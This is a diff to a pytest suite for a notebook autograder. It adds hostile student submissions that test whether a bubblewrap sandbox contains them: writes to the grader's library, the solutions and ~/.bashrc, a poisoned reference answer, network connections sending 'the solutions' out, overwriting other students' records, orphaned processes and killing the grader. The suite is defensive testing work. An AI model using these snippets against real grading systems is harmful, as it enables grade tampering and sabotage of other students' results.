@@ -14,14 +14,19 @@ import csv
 import io
 import json
 import os
+import signal
+import socket
+import sys
 import tempfile
+import threading
+import time
 from dataclasses import dataclass
 from pathlib import Path
 
 import nbformat
 import pytest
 
-from course_lib import checks, cli, grading
+from course_lib import checks, cli, grading, sandbox, tamper
 
 REPO = Path(__file__).resolve().parents[1]
 SOLUTION = REPO / "solutions" / "groups.ipynb"
@@ -146,6 +151,67 @@ for name in ("gradebook.csv", "gradebook.json", "feedback/submitted__correct.md"
         pass
 '''
 
+# Hostile kernels: each tries something outside its scratch folder, and raises when it got through
+# (so its dihedral_compose is never defined and it gets 6/8 instead of 8/8). The fixture fills in
+# REPO (found from course_lib's __file__, as a student would), OUT, SOURCES, HOME, PORT and MARK.
+TRY_WRITES = '''import os, pathlib, course_lib
+REPO = pathlib.Path(course_lib.__file__).parents[1]
+written = []
+for target in TARGETS:
+    try:
+        with open(target, "a") as f:
+            f.write("# a student was here\\n")
+        written.append(str(target))
+    except OSError:
+        pass
+if written:
+    raise RuntimeError(f"wrote {written}")
+'''
+
+# The attack of issue 17: make every later grade of dihedral_compose expect (0, 0).
+POISON_REFERENCE = '''import course_lib.checks.groups as target
+try:
+    with open(target.__file__, "a") as f:
+        f.write("\\nimport dataclasses\\nEXERCISES['dihedral_compose'] = dataclasses.replace("
+                "EXERCISES['dihedral_compose'], reference=lambda a, b, n: (0, 0))\\n")
+except OSError:
+    pass
+
+def dihedral_compose(a, b, n):
+    return (0, 0)
+'''
+
+OPEN_NETWORK = '''import socket
+reached = []
+for address in [("127.0.0.1", PORT), ("1.1.1.1", 53), ("pypi.org", 443)]:
+    try:
+        with socket.create_connection(address, timeout=3) as s:
+            s.sendall(b"the solutions")
+        reached.append(address)
+    except OSError:
+        pass
+if reached:
+    raise RuntimeError(f"reached {reached}")
+'''
+
+READ_OTHER_SCRATCH = '''import os, pathlib
+mine = pathlib.Path.cwd().parent  # this kernel's scratch folder; the others would be beside it
+seen = [p for p in mine.parent.iterdir() if p != mine]
+for other in seen:  # read their answers and forge them
+    for record in other.glob("records/*.json"):
+        print(record.read_text()[:100])
+        record.write_text("[]")
+if seen:
+    raise RuntimeError(f"saw {seen}")
+'''
+
+OUTLIVE = '''import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", MARK], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''
+
+KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
+
 FORGED_RECORD = '''import course_lib.checks as _c
 _c.answers_to_json = lambda answers: '[{"value": {"dtype": "float64", "shape": [1000000000], "data": [1]}, "error": null}]'
 '''
@@ -171,8 +237,9 @@ CORPUS = {
                    5, "memory"),
     "os_exit": (lambda: prefixed("rotation_about", "import os\nos._exit(1)\n"), 5, "kernel died"),
     "segfault": (lambda: prefixed("homomorphism_error", "import ctypes\nctypes.string_at(0)\n"), 2, "kernel died"),
-    "kills_grader": (lambda: prefixed("rotation_about", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"),
-                     0, "error"),
+    # under bubblewrap its parent is the sandbox's init, which ignores the signal; see also
+    # test_a_kernel_that_kills_its_worker_costs_only_its_row
+    "kills_grader": (lambda: prefixed("rotation_about", KILL_PARENT), 8, "graded"),
     "sys_exit": (lambda: prefixed("dihedral_compose", "import sys\nsys.exit(0)\n"), 6, "graded"),
     "warnings": (lambda: prefixed("dihedral_compose", "import sys, warnings\nwarnings.warn('deprecated!')\n"
                                                       "print('noise on stderr', file=sys.stderr)\n"), 8, "graded"),
@@ -185,6 +252,15 @@ CORPUS = {
                                                rotation_about=WRONG["rotation_about"]), 2, "graded"),
     "always_equal": (lambda: with_cells(rotation_about=ALWAYS_EQUAL), 5, "graded"),
     "writes_files": (None, 8, "graded"),  # built in the fixture: it needs the gradebook's path
+    # built in the fixture (they need paths): each gets 6/8 where its attack works
+    "writes_course_lib": (None, 8, "graded"),
+    "poisons_reference": (None, 6, "graded"),  # issue 17's attack; its own answer (0, 0) is wrong
+    "writes_solutions": (None, 8, "graded"),
+    "writes_gradebook": (None, 8, "graded"),
+    "writes_home": (None, 8, "graded"),
+    "opens_network": (None, 8, "graded"),
+    "reads_other_scratch": (None, 8, "graded"),
+    "outlives_kernel": (None, 8, "graded"),
     "forged_record": (lambda: prefixed("rotation_about", FORGED_RECORD), 5, "graded"),
     "wrong_chapter_cells": (wrong_chapter_cells, 0, "wrong chapter"),
     "unknown_chapter": (unknown_chapter, 0, "wrong chapter"),
@@ -196,6 +272,12 @@ def write(path: Path, nb_or_text) -> None:
     path.write_text(nb_or_text if isinstance(nb_or_text, str) else nbformat.writes(nb_or_text))
 
 
+ATTACKS = {"writes_course_lib", "poisons_reference", "writes_solutions", "writes_gradebook", "writes_home",
+           "opens_network", "reads_other_scratch", "outlives_kernel"}
+ISOLATION = sandbox.isolation()
+needs_isolation = pytest.mark.skipif(not ISOLATION.isolated, reason=f"no sandbox here: {ISOLATION.detail}")
+
+
 @dataclass
 class Batch:
     out: Path  # the --out folder
@@ -205,6 +287,79 @@ class Batch:
     submitted: Path
     leftovers: set  # scratch folders left in the temp directory
     scratch: Path  # that temp directory
+    changed: list  # files changed outside the scratch folders: course_lib, solutions/, sources, home
+    received: list  # what reached the test's listening socket
+    survivors: list  # processes of the 'outlives_kernel' submission still alive after the batch
+
+
+def attacks(root: Path, out: Path, sources: Path, port: int, mark: str) -> dict[str, nbformat.NotebookNode]:
+    """The hostile submissions, each with the paths it goes after."""
+    home = Path.home()
+    targets = {
+        "writes_course_lib": 'REPO / "course_lib" / "checks" / "groups.py", REPO / "course_lib" / "student.py"',
+        "writes_solutions": f'REPO / "solutions" / "groups.ipynb", REPO / "solutions" / "student.txt", '
+                            f'{str(sources / "groups.ipynb")!r}',
+        "writes_gradebook": ", ".join(repr(str(out / n)) for n in ("gradebook.csv", "feedback/student.md", "student.txt")),
+        "writes_home": f'{str(home / ".course-grade-student")!r}, {str(home / ".bashrc")!r}',
+    }
+    built = {name: prefixed("dihedral_compose", TRY_WRITES.replace("written = []", f"TARGETS = [{t}]\nwritten = []"))
+             for name, t in targets.items()}
+    built["poisons_reference"] = with_cells(dihedral_compose=POISON_REFERENCE)
+    built["opens_network"] = prefixed("dihedral_compose", f"PORT = {port}\n" + OPEN_NETWORK)
+    built["reads_other_scratch"] = prefixed("dihedral_compose", READ_OTHER_SCRATCH)
+    built["outlives_kernel"] = prefixed("dihedral_compose", f"MARK = {mark!r}\n" + OUTLIVE)
+    return built
+
+
+def home_targets() -> list[Path]:
+    return [Path.home() / ".course-grade-student", Path.home() / ".bashrc"]
+
+
+@contextlib.contextmanager
+def restored(paths: list[Path]):
+    """Put the files back as they were, should an attack get through (the test fails anyway)."""
+    saved = {p: p.read_bytes() if p.exists() else None for p in paths}
+    try:
+        yield
+    finally:
+        for p, data in saved.items():
+            if data is None:
+                p.unlink(missing_ok=True)
+            elif p.read_bytes() != data:
+                p.write_bytes(data)
+
+
+def processes_with(mark: str) -> list[int]:
+    found = []
+    for proc in Path("/proc").glob("[0-9]*"):
+        with contextlib.suppress(OSError):
+            if mark.encode() in (proc / "cmdline").read_bytes():
+                found.append(int(proc.name))
+    return found
+
+
+@contextlib.contextmanager
+def listening():
+    """A TCP socket on the loopback, and the list of what reaches it."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    received, done = [], threading.Event()
+
+    def serve():
+        while not done.is_set():
+            with contextlib.suppress(OSError):
+                conn, _ = server.accept()
+                with conn:
+                    conn.settimeout(2)
+                    received.append(conn.recv(100))
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield server.getsockname()[1], received
+    finally:
+        done.set()
+        thread.join()
+        server.close()
 
 
 @pytest.fixture(scope="module")
@@ -224,26 +379,43 @@ def batch(tmp_path_factory) -> Batch:
             write(subs / f"{name}.ipynb", build() if callable(build) else build)
     write(subs / "writes_files.ipynb", prefixed("dihedral_compose", f"OUT = {str(out)!r}\n" + WRITE_EVERYWHERE))
     write(subs / "named_twin.ipynb", solution_nb())
+    mark = f"course-grade-outlives-{os.getpid()}-{time.time_ns()}"
     stdout = io.StringIO()
     scratch = root / "tmp"  # the grader's temp directory for this batch, to see that it is left empty
     scratch.mkdir()
+    guarded = [REPO / "course_lib" / "checks" / "groups.py", REPO / "course_lib" / "student.py",
+               REPO / "solutions" / "groups.ipynb", REPO / "solutions" / "student.txt", *home_targets()]
     saved, tempfile.tempdir = tempfile.tempdir, str(scratch)
     try:
-        with contextlib.redirect_stdout(stdout), contextlib.chdir(root):
-            code = cli.main(["grade", "submitted", "--out", "out", "-j", "2", "--source", "sources",
-                             "--cell-timeout", str(LIMITS["cell_timeout"]), "--timeout", str(LIMITS["timeout"]),
-                             "--memory", str(LIMITS["memory"])])
+        with listening() as (port, received), restored(guarded):
+            if ISOLATION.isolated:
+                for name, nb in attacks(root, out, sources, port, mark).items():
+                    write(subs / f"{name}.ipynb", nb)
+            before = tamper.watched([REPO / "solutions", sources, *home_targets()])
+            with contextlib.redirect_stdout(stdout), contextlib.chdir(root):
+                code = cli.main(["grade", "submitted", "--out", "out", "-j", "2", "--source", "sources",
+                                 "--cell-timeout", str(LIMITS["cell_timeout"]), "--timeout", str(LIMITS["timeout"]),
+                                 "--memory", str(LIMITS["memory"])])
+            changed = before.changes()
+            survivors = processes_with(mark)
     finally:
         tempfile.tempdir = saved
+        for pid in processes_with(mark):
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
     rows = {Path(r["key"]).stem: r for r in json.loads((out / "gradebook.json").read_text())["rows"]}
     leftovers = set(scratch.iterdir())
-    return Batch(out, rows, code, stdout.getvalue(), subs, leftovers, scratch)
+    return Batch(out, rows, code, stdout.getvalue(), subs, leftovers, scratch, changed, received, survivors)
 
 
 @pytest.mark.parametrize("name", list(CORPUS))
 def test_corpus_verdict(batch, name):
+    if name in ATTACKS and not ISOLATION.isolated:
+        pytest.skip(f"no sandbox here ({ISOLATION.detail}): the attacks are not graded")
     rows = batch.rows
     _, points, status = CORPUS[name]
+    if name == "kills_grader" and not ISOLATION.isolated:  # it reaches its worker
+        points, status = 0, "error"
     row = rows[name]
     assert (row["total"], row["status"]) == (points, status), row
     assert row["max"] == (8 if row["chapter"] else 0)
@@ -252,16 +424,18 @@ def test_corpus_verdict(batch, name):
 
 def test_batch_graded_every_submission_once(batch):
     out, rows, code, stdout = batch.out, batch.rows, batch.code, batch.stdout
-    assert sorted(rows) == sorted(CORPUS)
+    assert sorted(rows) == sorted(n for n in CORPUS if ISOLATION.isolated or n not in ATTACKS)
     with open(out / "gradebook.csv", newline="") as f:
         table = list(csv.DictReader(f))
-    assert sorted(Path(r["key"]).stem for r in table) == sorted(CORPUS)
+    assert sorted(Path(r["key"]).stem for r in table) == sorted(rows)
     assert {r["key"]: float(r["total"]) for r in table} == {r["key"]: r["total"] for r in rows.values()}
     assert code == 1  # some submissions could not be graded completely
-    assert all(name in stdout for name in CORPUS)
+    assert all(name in stdout for name in rows)
+    assert stdout.splitlines()[0].startswith(f"isolation: {ISOLATION.name}")
+    assert {r["isolation"] for r in rows.values()} == {r["isolation"] for r in table} == {ISOLATION.name}
     solution_lines = {line.strip() for c in solution_nb().cells if "### BEGIN SOLUTION" in c.source
                       for line in c.source.split("### BEGIN SOLUTION")[1].splitlines() if len(line.strip()) > 12}
-    for name in CORPUS:  # a readable feedback file each, without the reference solution
+    for name in rows:  # a readable feedback file each, without the reference solution
         text = grading.feedback_path(out, f"submitted/{name}.ipynb").read_text()
         assert f"/ {rows[name]['max']:g}**" in text and "HACKED" not in text
         assert not [line for line in solution_lines if line in text]
@@ -281,8 +455,7 @@ def test_reasons_say_what_happened(batch):
     assert [t["status"] for t in rows["untouched"]["tests"]] == ["not attempted"] * 3
     incomplete = {n for n, r in rows.items() if not r["complete"]}
     assert incomplete == {"invalid_json", "not_a_notebook", "empty", "os_exit", "segfault", "stubborn_loop",
-                          "kills_grader", "wrong_chapter_cells", "unknown_chapter"}
-    assert "killed the grading process" in rows["kills_grader"]["reason"]
+                          "wrong_chapter_cells", "unknown_chapter"} | (set() if ISOLATION.isolated else {"kills_grader"})
 
 
 def test_hostile_writes_stay_in_the_scratch_folder(batch):
@@ -293,6 +466,28 @@ def test_hostile_writes_stay_in_the_scratch_folder(batch):
     assert "HACKED" not in (out / "gradebook.csv").read_text()
     assert not (subs / "junk.txt").exists() and not (REPO / "junk.txt").exists()
     assert not (subs.parent / "junk.txt").exists()
+
+
+@needs_isolation
+def test_hostile_kernels_change_nothing_outside_their_scratch_folders(batch):
+    """course_lib, solutions/, the source notebooks and the home files hash as before; nothing
+    reached the loopback; no process of a kernel outlived it (every attack's verdict is in the corpus)."""
+    assert batch.changed == []
+    assert batch.received == []
+    assert batch.survivors == []
+
+
+@needs_isolation
+def test_the_poisoned_reference_harms_no_later_grade(batch, tmp_path):
+    """Issue 17: graded again after the attack, the correct submission gets full marks and the
+    accomplice that answers (0, 0) does not."""
+    (tmp_path / "correct.ipynb").write_text(nbformat.writes(solution_nb()))
+    (tmp_path / "accomplice.ipynb").write_text(nbformat.writes(
+        with_cells(dihedral_compose="def dihedral_compose(a, b, n):\n    return (0, 0)\n")))
+    sources = grading.find_sources([batch.submitted.parent / "sources"])
+    rows = {Path(r.key).stem: r for r in grading.grade([tmp_path], tmp_path / "out", sources, jobs=2)}
+    assert (rows["correct"].total, rows["accomplice"].total) == (8, 6)
+    assert "a student was here" not in (REPO / "course_lib" / "checks" / "groups.py").read_text()
 
 
 def processes_in(folder: Path) -> list[int]:
@@ -330,6 +525,79 @@ def test_self_check_gives_the_graders_verdicts(batch):
             exec(c.source, namespace)
     mine = [checks.verify(f"groups.{f}", namespace[f]).status for f in WRONG]
     assert mine == [t["status"] for t in rows["partial"]["tests"]] == ["pass", "pass", "fail"]
+
+
+TAMPER = '''import pathlib, time
+with open(SOURCE, "a") as f:
+    f.write(" ")
+time.sleep(4)
+'''
+
+
+def test_a_change_to_the_sources_stops_the_batch(tmp_path, monkeypatch):
+    """Without bubblewrap (here: not found), the output and every row say 'isolation: none'; a
+    kernel that changes a source notebook stops the batch: it is named, every row graded after the
+    change is marked 'regrade', and the submissions still queued are not graded."""
+    monkeypatch.setattr(sandbox, "BWRAP", str(tmp_path / "no-bwrap"))
+    (tmp_path / "sources").mkdir()
+    source = tmp_path / "sources" / "groups.ipynb"
+    write(source, solution_nb())
+    (tmp_path / "submitted").mkdir()
+    write(tmp_path / "submitted" / "a_tamperer.ipynb", prefixed("dihedral_compose", f"SOURCE = {str(source)!r}\n" + TAMPER))
+    for name in ("b_correct", "c_correct", "d_correct"):
+        write(tmp_path / "submitted" / f"{name}.ipynb", solution_nb())
+    stdout, stderr = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr), contextlib.chdir(tmp_path):
+        code = cli.main(["grade", "submitted", "--out", "out", "-j", "2", "--source", "sources"])
+    assert code == 3
+    assert stdout.getvalue().startswith("isolation: none (no ") and "WARNING: isolation: none" in stderr.getvalue()
+    stopped = [line for line in stderr.getvalue().splitlines() if "STOPPED" in line]
+    assert len(stopped) == 1 and "sources/groups.ipynb changed" in stopped[0] and "a_tamperer" in stopped[0]
+    rows = {Path(r["key"]).stem: r for r in json.loads((tmp_path / "out" / "gradebook.json").read_text())["rows"]}
+    assert rows["a_tamperer"]["status"] == "regrade" and not rows["a_tamperer"]["complete"]
+    assert {r["isolation"] for r in rows.values()} == {"none"}
+    finished = [line.split(", ")[-1] for line in stderr.getvalue().splitlines() if ": chapter groups, " in line]
+    first = finished.index("regrade")
+    assert finished[first:] == ["regrade"] * (len(finished) - first) and len(finished) == len(rows) < 4
+
+
+def test_a_kernel_that_kills_its_worker_costs_only_its_row(tmp_path):
+    """Without isolation a kernel can kill its parent, the worker: the others are graded again."""
+    write(tmp_path / "killer.ipynb", prefixed("rotation_about", KILL_PARENT))
+    write(tmp_path / "correct.ipynb", solution_nb())
+    rows = {Path(r.key).stem: r for r in grading.grade([tmp_path], tmp_path / "out", grading.find_sources(
+        [REPO / "solutions"], problems=[]), jobs=2, isolation=sandbox.NO_ISOLATION)}
+    assert (rows["killer"].total, rows["killer"].status, rows["correct"].total) == (0, "error", 8)
+    assert "killed the grading process" in rows["killer"].reason
+
+
+def test_require_isolation_refuses_to_grade_without_it(tmp_path, monkeypatch):
+    monkeypatch.setattr(sandbox, "BWRAP", str(tmp_path / "no-bwrap"))
+    write(tmp_path / "hw.ipynb", solution_nb())
+    stderr = io.StringIO()
+    with contextlib.redirect_stderr(stderr):
+        code = cli.main(["grade", str(tmp_path / "hw.ipynb"), "--out", str(tmp_path / "out"), "--require-isolation"])
+    assert code == 2 and "refusing to grade" in stderr.getvalue() and "no-bwrap" in stderr.getvalue()
+    assert not (tmp_path / "out").exists()
+
+
+def test_the_sandbox_never_hides_python_itself():
+    with pytest.raises(ValueError, match="outside the Python installation"):
+        sandbox.bubblewrap_argv(Path(sys.prefix) / "scratch", ["true"])
+    argv = sandbox.bubblewrap_argv(Path("/tmp/batch/k1"), ["true"])
+    assert argv[argv.index("--tmpfs", argv.index("/run")):][:2] == ["--tmpfs", "/tmp/batch"]
+    assert {"--unshare-all", "--die-with-parent"} <= set(argv) and argv[-2:] == ["--", "true"]
+
+
+def test_fingerprint_sees_a_change_an_addition_and_a_removal(tmp_path):
+    (tmp_path / "a.py").write_text("x = 1\n")
+    (tmp_path / "b.py").write_text("y = 2\n")
+    before = tamper.Fingerprint.take([tmp_path, tmp_path / "missing.ipynb"])
+    assert before.changes() == []
+    (tmp_path / "a.py").write_text("x = 2\n")
+    (tmp_path / "b.py").unlink()
+    (tmp_path / "missing.ipynb").write_text("{}")
+    assert before.changes() == [str(tmp_path / n) for n in ("a.py", "b.py", "missing.ipynb")]
 
 
 # --------------------------------------------------------------------------------------------
@@ -428,15 +696,17 @@ def test_limits_reject_nonsense():
 def test_total_timeout_kills_the_kernel_and_its_children(tmp_path):
     """A kernel past the total time is killed with every process it started; nothing is left in the scratch folder."""
     nb = nbformat.v4.new_notebook()
+    mark = f"course-grade-child-{os.getpid()}-{time.time_ns()}"
     nb.cells = [nbformat.v4.new_code_cell(s) for s in [
-        "import os, subprocess\nchild = subprocess.Popen(['sleep', '300'])\nprint(child.pid, os.getcwd())",
+        f"import os, subprocess, sys\nchild = subprocess.Popen([sys.executable, '-c', 'import time; "
+        f"time.sleep(300)', {mark!r}])\nprint(os.getcwd())",
         "import time\ntime.sleep(300)",
         "print('never')",
     ]]
     run = grading.execute(nb, grading.Limits(cell_timeout=100, timeout=8), [])
     assert (run.stop_status, run.stopped_at) == ("timeout", 1) and "total time limit" in run.stop_reason
-    pid, cwd = run.notebook.cells[0].outputs[0]["text"].split()
-    assert not Path(f"/proc/{pid}").exists() or "zombie" in Path(f"/proc/{pid}/status").read_text()
+    cwd = run.notebook.cells[0].outputs[0]["text"].strip()
+    assert not [pid for pid in processes_with(mark) if "zombie" not in Path(f"/proc/{pid}/status").read_text()]
     assert not Path(cwd).exists() and not run.notebook.cells[2].outputs
 
 
